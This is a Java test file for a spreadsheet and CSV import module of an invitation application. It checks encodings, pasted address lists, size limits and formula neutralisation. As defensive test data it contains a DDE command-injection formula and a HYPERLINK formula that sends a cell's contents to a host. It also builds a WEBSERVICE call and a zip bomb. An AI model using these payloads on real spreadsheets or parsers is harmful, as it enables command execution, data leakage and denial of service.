package dk.tingsted.invitations.reading;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dk.tingsted.platform.sheets.Csv;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class SheetsTest {

    private static final String LIST = "navn;email\nSøren Ærø;s@example.org\n";

    @Test
    void a_file_is_read_in_every_code_that_spreadsheets_write() {
        var expected =
                List.of(
                        new Sheet.Line(1, List.of("navn", "email")),
                        new Sheet.Line(2, List.of("Søren Ærø", "s@example.org")));
        assertThat(lines(LIST.getBytes(UTF_8))).isEqualTo(expected);
        assertThat(lines(("\ufeff" + LIST).getBytes(UTF_8))).isEqualTo(expected);
        assertThat(lines(LIST.getBytes(ISO_8859_1))).isEqualTo(expected);
        assertThat(lines(LIST.getBytes(UTF_16))).isEqualTo(expected);
        assertThat(lines(LIST.getBytes(UTF_16LE))).isEqualTo(expected);
        assertThat(lines(LIST.replace(";", ",").getBytes(UTF_8))).isEqualTo(expected);
        assertThat(lines(("sep=;\r\n" + LIST).getBytes(UTF_8))).isEqualTo(expected);
    }

    @Test
    void people_are_read_as_a_mail_program_writes_them() {
        assertThat(
                        pasted(
                                "Ida Prøve <ida@oestby.dk>; \"Prøve, Bo\" <bo@oestby.dk>\n"
                                        + "Eva Eksempel <mailto:eva@oestby.dk>\nolga@oestby.dk"))
                .containsExactly(
                        List.of("Ida Prøve", "ida@oestby.dk"),
                        List.of("Prøve, Bo", "bo@oestby.dk"),
                        List.of("Eva Eksempel", "eva@oestby.dk"),
                        List.of("", "olga@oestby.dk"));
    }

    @Test
    void cells_copied_from_a_spreadsheet_stand_between_tabs() {
        assertThat(
                        pasted(
                                "Ida\tida@oestby.dk\tØstby, Vestby\r\n\r\nBo\tbo@oestby.dk\t\"to\nlinjer\""))
                .containsExactly(
                        List.of("Ida", "ida@oestby.dk", "Østby, Vestby"),
                        List.of("Bo", "bo@oestby.dk", "to linjer"));
    }

    @Test
    void a_quote_that_is_never_closed_swallows_no_other_line() {
        var sheet = pasted("navn;email\n" + "\"abc;x@example.org\n".repeat(1000));
        assertThat(sheet).hasSize(1001).contains(List.of("\"abc", "x@example.org"));
    }

    @Test
    void what_looks_like_a_formula_is_text_on_the_way_in_and_on_the_way_out() {
        var formulas =
                List.of(
                        List.of("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"),
                        List.of(
                                "＝1+1",
                                "=HYPERLINK(\"http://127.0.0.1/?\"&A1;\"klik\")",
                                "'=1",
                                "x"));
        var file = new String(Csv.write(formulas), UTF_8);
        assertThat(file).startsWith("\ufeff'=cmd|").contains("\r\n'＝1+1;\"'=HYPERLINK(\"\"");
        assertThat(pasted(file)).isEqualTo(formulas);
    }

    @Test
    void a_list_that_is_too_long_or_no_list_is_refused_with_a_remedy() throws IOException {
        var million = "Navn;n@example.org\n".repeat(1_000_000);
        assertThat(Sheets.pasted(million)).isInstanceOf(Opened.Refused.class);
        assertThat(Sheets.pasted("a;b@example.org\n".repeat(5_001)))
                .isInstanceOf(Opened.Refused.class);
        assertThat(Sheets.pasted("a;b@example.org\n".repeat(5_000)))
                .isInstanceOf(Opened.Whole.class);
        assertThat(Sheets.read(("navn;email\n" + "A".repeat(10_000_000)).getBytes(UTF_8)))
                .isInstanceOf(Opened.Refused.class);
        assertThat(Sheets.pasted("\n \n;;\n")).isInstanceOf(Opened.Refused.class);
        assertThat(Sheets.read("%PDF-1.7".getBytes(UTF_8))).isInstanceOf(Opened.Refused.class);
        assertThat(Sheets.read(Files.readAllBytes(Path.of("src/test/resources/twins/01.docx"))))
                .isInstanceOfSatisfying(
                        Opened.Refused.class,
                        refused -> assertThat(refused.toString()).contains("Word-dokument"));
        assertThat(Sheets.read(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0}))
                .isInstanceOf(Opened.Refused.class);
    }

    @Test
    void a_cell_is_shortened_and_its_unreadable_signs_are_shown() {
        assertThat(pasted("navn;email\na\0b;x@example.org").getLast().getFirst())
                .isEqualTo("a\ufffdb");
        assertThat(pasted("A".repeat(4_000_000) + ";x@example.org").getFirst().getFirst())
                .hasSize(Cell.LONGEST);
    }

    @Test
    void a_workbook_is_read_apart_and_its_formulas_are_not_calculated() throws IOException {
        var opened = Sheets.read(workbook());
        assertThat(opened)
                .isEqualTo(
                        new Opened.Whole(
                                new Sheet(
                                        List.of(
                                                new Sheet.Line(1, List.of("Navn", "E-mail", "Nr.")),
                                                new Sheet.Line(
                                                        3,
                                                        List.of("Søren", "s@example.org", "7"))))));
    }

    @Test
    void a_bomb_in_a_workbook_brings_down_nothing() throws IOException {
        var bomb = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bomb)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(
                    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\">]><Types>&a;</Types>"
                            .getBytes(UTF_8));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            var zeros = new byte[1024 * 1024];
            for (int mega = 0; mega < 300; mega++) {
                zip.write(zeros);
            }
        }
        assertThat(Sheets.read(bomb.toByteArray())).isInstanceOf(Opened.Refused.class);
    }

    @Property(tries = 300)
    void whatever_stands_in_a_sheet_is_kept_as_it_is(@ForAll("rows") List<List<String>> rows) {
        var sheet = Sheet.of(rows);
        assertThat(Sheet.kept(sheet.text())).isEqualTo(sheet);
    }

    @Property(tries = 300)
    void whatever_is_written_to_a_file_is_read_from_it_again(
            @ForAll("rows") List<List<String>> rows) {
        var sheet = Sheet.of(rows);
        var cells = sheet.lines().stream().map(Sheet.Line::cells).toList();
        var read =
                Sheet.of(
                        Delimited.parse(
                                new String(Csv.write(cells), UTF_8).substring(1), ';', 1000));
        assertThat(read.lines().stream().map(Sheet.Line::cells)).isEqualTo(cells);
    }

    @Property(tries = 500)
    void no_text_brings_the_reader_down(@ForAll String text) {
        assertThat(Sheets.pasted(text)).isNotNull();
    }

    @Provide
    Arbitrary<List<List<String>>> rows() {
        var cell =
                Arbitraries.strings()
                        .withChars("aæ;,\t\"\n\r'=+-@<> \u00a0\u200b\0")
                        .ofMaxLength(8);
        return cell.list().ofMinSize(1).ofMaxSize(5).list().ofMaxSize(6);
    }

    private static byte[] workbook() throws IOException {
        try (var workbook = new XSSFWorkbook();
                var bytes = new ByteArrayOutputStream()) {
            var sheet = workbook.createSheet();
            var head = sheet.createRow(0);
            head.createCell(0).setCellValue("Navn");
            head.createCell(1).setCellValue("E-mail");
            head.createCell(2).setCellValue("Nr.");
            var row = sheet.createRow(2);
            row.createCell(0).setCellValue("Søren");
            row.createCell(1).setCellValue("s@example.org");
            row.createCell(2).setCellValue(7);
            row.createCell(3).setCellFormula("WEBSERVICE(\"http://127.0.0.1:18099/x\")");
            workbook.write(bytes);
            return bytes.toByteArray();
        }
    }

    private static List<Sheet.Line> lines(byte[] file) {
        return Sheets.read(file) instanceof Opened.Whole(var sheet) ? sheet.lines() : List.of();
    }

    private static List<List<String>> pasted(String text) {
        return Sheets.pasted(text) instanceof Opened.Whole(var sheet)
                ? sheet.lines().stream().map(Sheet.Line::cells).toList()
                : List.of();
    }
}
